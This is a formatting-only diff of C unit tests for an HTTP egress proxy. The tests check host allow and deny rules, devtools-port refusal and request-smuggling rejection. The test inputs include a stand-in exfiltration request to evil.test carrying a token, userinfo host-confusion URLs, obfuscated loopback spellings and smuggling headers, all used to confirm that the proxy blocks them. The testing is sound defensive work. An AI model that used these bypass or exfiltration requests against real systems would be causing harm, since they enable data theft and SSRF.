@@ -138,7 +138,8 @@ static void test_allowed_get_passes_and_is_counted(void **state)
 	snprintf(req, sizeof(req),
 	         "GET http://shop.test:%d/hello?q=1#frag HTTP/1.1\r\nHost: wrong.test\r\n"
 	         "Proxy-Connection: keep-alive\r\nProxy-Authorization: Basic c2VjcmV0\r\n"
-	         "Accept: */*\r\n\r\n", w.http.port);
+	         "Accept: */*\r\n\r\n",
+	         w.http.port);
 	assert_int_equal(ts_send_str(fd, req), 0);
 	assert_true(tc_read_response(fd, resp, sizeof(resp)) > 0);
 	assert_non_null(strstr(resp, "HTTP/1.1 200 OK"));
@@ -159,7 +160,8 @@ static void test_allowed_get_passes_and_is_counted(void **state)
 	 * pipelined requests in one write */
 	snprintf(req, sizeof(req),
 	         "POST http://cdn.shop.test:%d/form HTTP/1.1\r\nHost: cdn.shop.test\r\n"
-	         "Content-Length: 11\r\n\r\nhello=world", w.http.port);
+	         "Content-Length: 11\r\n\r\nhello=world",
+	         w.http.port);
 	assert_int_equal(ts_send_str(fd, req), 0);
 	assert_true(tc_read_response(fd, resp, sizeof(resp)) > 0);
 	assert_non_null(strstr(resp, "hello from upstream: /form (body 11 bytes)"));
@@ -194,16 +196,20 @@ static void test_denied_host_gets_403(void **state)
 
 	(void)state;
 	world_start(&w, shop_policy, NULL);
-	snprintf(req, sizeof(req), "GET http://evil.test:%d/steal?token=abc HTTP/1.1\r\n"
-	         "Host: evil.test\r\n\r\n", w.http.port);
+	snprintf(req, sizeof(req),
+	         "GET http://evil.test:%d/steal?token=abc HTTP/1.1\r\n"
+	         "Host: evil.test\r\n\r\n",
+	         w.http.port);
 	roundtrip(&w, req, resp, sizeof(resp));
 	assert_non_null(strstr(resp, "HTTP/1.1 403 Forbidden"));
 	assert_non_null(strstr(resp, "X-Glassbox-Rule: egress-not-allowed"));
 	assert_non_null(strstr(resp, "(rule egress-not-allowed)"));
 	assert_null(strstr(resp, "shop.test")); /* no other policy entry leaks */
 
-	snprintf(req, sizeof(req), "GET http://ads.shop.test:%d/x.js HTTP/1.1\r\n"
-	         "Host: ads.shop.test\r\n\r\n", w.http.port);
+	snprintf(req, sizeof(req),
+	         "GET http://ads.shop.test:%d/x.js HTTP/1.1\r\n"
+	         "Host: ads.shop.test\r\n\r\n",
+	         w.http.port);
 	roundtrip(&w, req, resp, sizeof(resp));
 	assert_non_null(strstr(resp, "HTTP/1.1 403 Forbidden"));
 	assert_non_null(strstr(resp, "egress-deny"));
@@ -215,8 +221,10 @@ static void test_denied_host_gets_403(void **state)
 	assert_non_null(strstr(resp, "addr-metadata"));
 
 	/* a URL with userinfo reaches the host after the '@' */
-	snprintf(req, sizeof(req), "GET http://shop.test@evil.test:%d/ HTTP/1.1\r\n"
-	         "Host: shop.test\r\n\r\n", w.http.port);
+	snprintf(req, sizeof(req),
+	         "GET http://shop.test@evil.test:%d/ HTTP/1.1\r\n"
+	         "Host: shop.test\r\n\r\n",
+	         w.http.port);
 	roundtrip(&w, req, resp, sizeof(resp));
 	assert_non_null(strstr(resp, "403"));
 
@@ -293,9 +301,11 @@ static void test_upgrade_tunnels_after_101(void **state)
 	(void)state;
 	world_start(&w, shop_policy, NULL);
 	fd = tc_connect(w.port);
-	snprintf(req, sizeof(req), "GET http://shop.test:%d/ws HTTP/1.1\r\nHost: shop.test\r\n"
+	snprintf(req, sizeof(req),
+	         "GET http://shop.test:%d/ws HTTP/1.1\r\nHost: shop.test\r\n"
 	         "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
-	         "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n", w.http.port);
+	         "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
+	         w.http.port);
 	assert_int_equal(ts_send_str(fd, req), 0);
 	assert_true(tc_read_response(fd, resp, sizeof(resp)) > 0);
 	assert_non_null(strstr(resp, "HTTP/1.1 101"));
@@ -342,10 +352,14 @@ static void test_loopback_override_needs_naming(void **state)
 	world_stop(&w);
 
 	/* named: allowed */
-	world_start(&w, "{\"allow\": [\"shop.test\"], \"allow_private\": [\"127.0.0.0/8\"],"
-	                " \"hosts\": {\"shop.test\": \"127.0.0.1\"}}", NULL);
-	snprintf(req, sizeof(req), "GET http://shop.test:%d/ok HTTP/1.1\r\nHost: shop.test\r\n"
-	         "Connection: close\r\n\r\n", w.http.port);
+	world_start(&w,
+	            "{\"allow\": [\"shop.test\"], \"allow_private\": [\"127.0.0.0/8\"],"
+	            " \"hosts\": {\"shop.test\": \"127.0.0.1\"}}",
+	            NULL);
+	snprintf(req, sizeof(req),
+	         "GET http://shop.test:%d/ok HTTP/1.1\r\nHost: shop.test\r\n"
+	         "Connection: close\r\n\r\n",
+	         w.http.port);
 	roundtrip(&w, req, resp, sizeof(resp));
 	assert_non_null(strstr(resp, "HTTP/1.1 200 OK"));
 	assert_non_null(strstr(resp, "Connection: close"));
@@ -376,22 +390,26 @@ static void test_devtools_port_refused_whatever_the_policy(void **state)
 	struct refuser r[4];
 	pthread_t t[4];
 	/* every spelling of loopback, and a name whose override is loopback */
-	const char *const targets[] = {"127.0.0.1", "127.1", "2130706433", "0x7f000001", "dev.test",
-	                               "[::ffff:127.0.0.1]"};
+	const char *const targets[] = { "127.0.0.1",  "127.1",    "2130706433",
+		                        "0x7f000001", "dev.test", "[::ffff:127.0.0.1]" };
 	char req[512];
 	char resp[4096];
 	int i;
 
 	(void)state;
 	/* the policy allows loopback on every port, by address and by name */
-	world_start(&w, "{\"allow_private\": [\"127.0.0.0/8\", \"::1\"],"
-	                " \"hosts\": {\"dev.test\": \"127.0.0.1\"}}", NULL);
+	world_start(&w,
+	            "{\"allow_private\": [\"127.0.0.0/8\", \"::1\"],"
+	            " \"hosts\": {\"dev.test\": \"127.0.0.1\"}}",
+	            NULL);
 	assert_int_equal(policy_proxy_refuse_port(NULL, 9222), -POLICY_EINVAL);
 	assert_int_equal(policy_proxy_refuse_port(w.proxy, 0), -POLICY_EINVAL);
 	assert_int_equal(policy_proxy_refuse_port(w.proxy, 65536), -POLICY_EINVAL);
 	/* before: reachable */
-	snprintf(req, sizeof(req), "GET http://127.0.0.1:%d/json/version HTTP/1.1\r\n"
-	         "Host: 127.0.0.1\r\nConnection: close\r\n\r\n", w.http.port);
+	snprintf(req, sizeof(req),
+	         "GET http://127.0.0.1:%d/json/version HTTP/1.1\r\n"
+	         "Host: 127.0.0.1\r\nConnection: close\r\n\r\n",
+	         w.http.port);
 	roundtrip(&w, req, resp, sizeof(resp));
 	assert_non_null(strstr(resp, "HTTP/1.1 200 OK"));
 	assert_int_equal(atomic_load(&w.http.hits), 1);
@@ -410,8 +428,9 @@ static void test_devtools_port_refused_whatever_the_policy(void **state)
 
 	/* by address, by override, by CONNECT, by Upgrade */
 	for (i = 0; i < (int)(sizeof(targets) / sizeof(targets[0])); i++) {
-		snprintf(req, sizeof(req), "GET http://%s:%d/json/version HTTP/1.1\r\nHost: x\r\n\r\n",
-		         targets[i], w.http.port);
+		snprintf(req, sizeof(req),
+		         "GET http://%s:%d/json/version HTTP/1.1\r\nHost: x\r\n\r\n", targets[i],
+		         w.http.port);
 		roundtrip(&w, req, resp, sizeof(resp));
 		assert_non_null(strstr(resp, "HTTP/1.1 403 Forbidden"));
 		assert_non_null(strstr(resp, "X-Glassbox-Rule: devtools-port"));
@@ -420,9 +439,11 @@ static void test_devtools_port_refused_whatever_the_policy(void **state)
 	snprintf(req, sizeof(req), "CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n", w.echo.port);
 	roundtrip(&w, req, resp, sizeof(resp));
 	assert_non_null(strstr(resp, "X-Glassbox-Rule: devtools-port"));
-	snprintf(req, sizeof(req), "GET http://dev.test:%d/devtools/browser/x HTTP/1.1\r\nHost: x\r\n"
+	snprintf(req, sizeof(req),
+	         "GET http://dev.test:%d/devtools/browser/x HTTP/1.1\r\nHost: x\r\n"
 	         "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
-	         "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n", w.http.port);
+	         "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
+	         w.http.port);
 	roundtrip(&w, req, resp, sizeof(resp));
 	assert_non_null(strstr(resp, "X-Glassbox-Rule: devtools-port"));
 	/* nothing reached either upstream after the refusal */
@@ -455,8 +476,10 @@ static void test_refused_ports_keep_the_latest(void **state)
 	assert_int_equal(policy_proxy_refuse_port(w.proxy, w.http.port), 0);
 	for (i = 0; i < POLICY_PROXY_REFUSED_PORTS; i++)
 		assert_int_equal(policy_proxy_refuse_port(w.proxy, 30000 + i), 0);
-	snprintf(req, sizeof(req), "GET http://127.0.0.1:%d/ HTTP/1.1\r\nHost: x\r\n"
-	         "Connection: close\r\n\r\n", w.http.port);
+	snprintf(req, sizeof(req),
+	         "GET http://127.0.0.1:%d/ HTTP/1.1\r\nHost: x\r\n"
+	         "Connection: close\r\n\r\n",
+	         w.http.port);
 	roundtrip(&w, req, resp, sizeof(resp));
 	assert_non_null(strstr(resp, "HTTP/1.1 200 OK"));
 	/* the latest is refused */
@@ -471,18 +494,22 @@ static void test_url_is_loopback_port(void **state)
 {
 	struct policy_egress *p = NULL;
 	json_t *j = json_loads("{\"hosts\": {\"dev.test\": \"127.0.0.1\","
-	                       " \"pub.test\": \"93.184.216.34\"}}", 0, NULL);
+	                       " \"pub.test\": \"93.184.216.34\"}}",
+	                       0, NULL);
 	char err[256];
 
 	(void)state;
 	assert_int_equal(policy_egress_parse(j, &p, err, sizeof(err)), 0);
 	json_decref(j);
-	assert_int_equal(policy_url_is_loopback_port(p, "http://127.0.0.1:9222/json/version", 9222), 1);
-	assert_int_equal(policy_url_is_loopback_port(p, "ws://127.0.0.1:9222/devtools/browser/x", 9222), 1);
+	assert_int_equal(policy_url_is_loopback_port(p, "http://127.0.0.1:9222/json/version", 9222),
+	                 1);
+	assert_int_equal(
+	    policy_url_is_loopback_port(p, "ws://127.0.0.1:9222/devtools/browser/x", 9222), 1);
 	assert_int_equal(policy_url_is_loopback_port(p, "http://127.1:9222/", 9222), 1);
 	assert_int_equal(policy_url_is_loopback_port(p, "http://2130706433:9222/", 9222), 1);
 	assert_int_equal(policy_url_is_loopback_port(p, "http://[::1]:9222/", 9222), 1);
-	assert_int_equal(policy_url_is_loopback_port(p, "http://[::ffff:127.0.0.1]:9222/", 9222), 1);
+	assert_int_equal(policy_url_is_loopback_port(p, "http://[::ffff:127.0.0.1]:9222/", 9222),
+	                 1);
 	assert_int_equal(policy_url_is_loopback_port(p, "http://LocalHost.:9222/", 9222), 1);
 	assert_int_equal(policy_url_is_loopback_port(p, "http://a.b.localhost:9222/", 9222), 1);
 	assert_int_equal(policy_url_is_loopback_port(p, "http://dev.test:9222/", 9222), 1);
@@ -549,12 +576,16 @@ static void test_bad_and_oversized_requests(void **state)
 	roundtrip(&w, "GET https://shop.test/ HTTP/1.1\r\n\r\n", resp, sizeof(resp));
 	assert_non_null(strstr(resp, "use CONNECT"));
 	/* ambiguous framing (request smuggling) */
-	snprintf(req, sizeof(req), "POST http://shop.test:%d/ HTTP/1.1\r\nContent-Length: 4\r\n"
-	         "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n", w.http.port);
+	snprintf(req, sizeof(req),
+	         "POST http://shop.test:%d/ HTTP/1.1\r\nContent-Length: 4\r\n"
+	         "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
+	         w.http.port);
 	roundtrip(&w, req, resp, sizeof(resp));
 	assert_non_null(strstr(resp, "HTTP/1.1 400"));
-	snprintf(req, sizeof(req), "POST http://shop.test:%d/ HTTP/1.1\r\nContent-Length: 4\r\n"
-	         "Content-Length: 5\r\n\r\nabcde", w.http.port);
+	snprintf(req, sizeof(req),
+	         "POST http://shop.test:%d/ HTTP/1.1\r\nContent-Length: 4\r\n"
+	         "Content-Length: 5\r\n\r\nabcde",
+	         w.http.port);
 	roundtrip(&w, req, resp, sizeof(resp));
 	assert_non_null(strstr(resp, "HTTP/1.1 400"));
 	/* a head that never ends: 408 after the header timeout */
@@ -702,7 +733,8 @@ static void test_chromium_flags_and_options(void **state)
 	assert_string_equal(f.host_resolver_rules, "MAP * ~NOTFOUND , EXCLUDE 127.0.0.1");
 	for (i = 0; f.extra[i]; i++) {
 		seen |= !strcmp(f.extra[i], "--proxy-bypass-list=<-loopback>");
-		seen |= !strcmp(f.extra[i], "--webrtc-ip-handling-policy=disable_non_proxied_udp") << 1;
+		seen |= !strcmp(f.extra[i], "--webrtc-ip-handling-policy=disable_non_proxied_udp")
+		        << 1;
 		seen |= !strcmp(f.extra[i], "--disable-quic") << 2;
 	}
 	assert_int_equal(seen, 7);
@@ -759,8 +791,8 @@ static void test_http_framing(void **state)
 
 	(void)state;
 	assert_int_equal(chunked_end("5\r\nhello\r\n0\r\n\r\nGET"), 15);
-	assert_int_equal(chunked_end("5;ext=1\r\nhello\r\nA\r\n0123456789\r\n0\r\nT: x\r\n\r\nnext"),
-	                 42);
+	assert_int_equal(
+	    chunked_end("5;ext=1\r\nhello\r\nA\r\n0123456789\r\n0\r\nT: x\r\n\r\nnext"), 42);
 	assert_int_equal(chunked_end("5\r\nhello\r\n"), -2); /* not over yet */
 	assert_int_equal(chunked_end("zz\r\n"), -1);
 	assert_int_equal(chunked_end("5\r\nhelloXX"), -1);
@@ -785,23 +817,30 @@ static void test_http_framing(void **state)
 
 	/* framing that two parsers could read two ways is refused */
 	assert_int_equal(proxy_http_parse_request("GET http://a/ HTTP/1.1\r\nTransfer-Encoding: "
-	                 "gzip, chunked\r\n\r\n", 60, &h, why, sizeof(why)), 0);
+	                                          "gzip, chunked\r\n\r\n",
+	                                          60, &h, why, sizeof(why)),
+	                 0);
 	assert_int_equal(proxy_http_request_body(&h, &body, why, sizeof(why)), -501);
 	assert_int_equal(proxy_http_parse_request("GET http://a/ HTTP/1.1\r\nContent-Length: +5\r\n"
-	                 "\r\n", 46, &h, why, sizeof(why)), 0);
+	                                          "\r\n",
+	                                          46, &h, why, sizeof(why)),
+	                 0);
 	assert_int_equal(proxy_http_request_body(&h, &body, why, sizeof(why)), -400);
-	assert_int_equal(proxy_http_parse_request("GET http://a/ HTTP/1.1\r\nBad Name: x\r\n\r\n", 39,
-	                 &h, why, sizeof(why)), -400);
-	assert_int_equal(proxy_http_parse_request("GET http://a/ HTTP/1.1\nHost: a\n\n", 32, &h, why,
-	                 sizeof(why)), -400);
-	assert_int_equal(proxy_http_parse_response("HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\n", 38,
-	                 &h, why, sizeof(why)), 0);
+	assert_int_equal(proxy_http_parse_request("GET http://a/ HTTP/1.1\r\nBad Name: x\r\n\r\n",
+	                                          39, &h, why, sizeof(why)),
+	                 -400);
+	assert_int_equal(proxy_http_parse_request("GET http://a/ HTTP/1.1\nHost: a\n\n", 32, &h,
+	                                          why, sizeof(why)),
+	                 -400);
+	assert_int_equal(proxy_http_parse_response("HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\n",
+	                                           38, &h, why, sizeof(why)),
+	                 0);
 	proxy_http_response_body(&h, "HEAD", &body);
 	assert_int_equal(body.kind, PROXY_BODY_NONE);
 	proxy_http_response_body(&h, "GET", &body);
 	assert_int_equal(body.kind, PROXY_BODY_LENGTH);
-	assert_int_equal(proxy_http_parse_response("HTTP/1.1 2x0 OK\r\n\r\n", 19, &h, why, sizeof(why)),
-	                 -502);
+	assert_int_equal(
+	    proxy_http_parse_response("HTTP/1.1 2x0 OK\r\n\r\n", 19, &h, why, sizeof(why)), -502);
 }
 
 int main(void)
